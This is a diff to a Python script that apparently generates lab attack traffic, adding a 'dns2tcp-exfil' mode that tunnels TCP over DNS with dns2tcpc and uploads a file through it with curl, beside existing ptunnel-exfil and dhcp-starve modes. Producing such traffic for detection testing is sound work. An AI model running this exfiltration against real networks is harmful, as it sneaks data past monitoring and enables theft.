@@ -666,6 +666,24 @@ def ptunnel_exfil(args) -> int:
     return 0
 
 
+def dns2tcp_exfil(args) -> int:
+    """A TCP-over-DNS tunnel with dns2tcpc through the lab resolver: a local port forwards to the
+    server's resource, and ``curl`` uploads a file through it."""
+    tun = subprocess.Popen(["dns2tcpc", "-z", args.zone, "-k", args.key, "-r", args.resource, "-l", str(args.local_port),
+                            "-T", args.qtype, args.resolver])
+    try:
+        time.sleep(1.5)
+        subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", str(args.max_seconds), "--data-binary", f"@{args.file}",
+                        f"http://127.0.0.1:{args.local_port}/upload"], timeout=args.max_seconds + 5)
+    finally:
+        tun.terminate()
+        try:
+            tun.wait(timeout=3)
+        except subprocess.TimeoutExpired:
+            tun.kill()
+    return 0
+
+
 def pair(args) -> int:
     """A device-pairing burst, bounded by ``--rounds``: the new device announces itself (mDNS
     announcements, SSDP NOTIFY alive for each type), the phone's app discovers it (SSDP M-SEARCH,
@@ -795,7 +813,18 @@ def main(argv=None) -> int:
     pt.add_argument("--dest-port", type=int, default=8080)
     pt.add_argument("--local-port", type=int, default=8000)
     pt.add_argument("--max-seconds", type=float, default=30.0)
+    dt = sub.add_parser("dns2tcp-exfil")
+    dt.add_argument("--resolver", required=True)
+    dt.add_argument("--zone", required=True)
+    dt.add_argument("--key", required=True)
+    dt.add_argument("--resource", default="upload")
+    dt.add_argument("--file", required=True)
+    dt.add_argument("--qtype", default="TXT", choices=("TXT", "KEY"))
+    dt.add_argument("--local-port", type=int, default=8001)
+    dt.add_argument("--max-seconds", type=float, default=30.0)
     args = p.parse_args(argv)
+    if args.cmd == "dns2tcp-exfil":
+        return dns2tcp_exfil(args)
     if args.cmd == "dhcp-starve":
         return dhcp_starve(args)
     if args.cmd == "ptunnel-exfil":
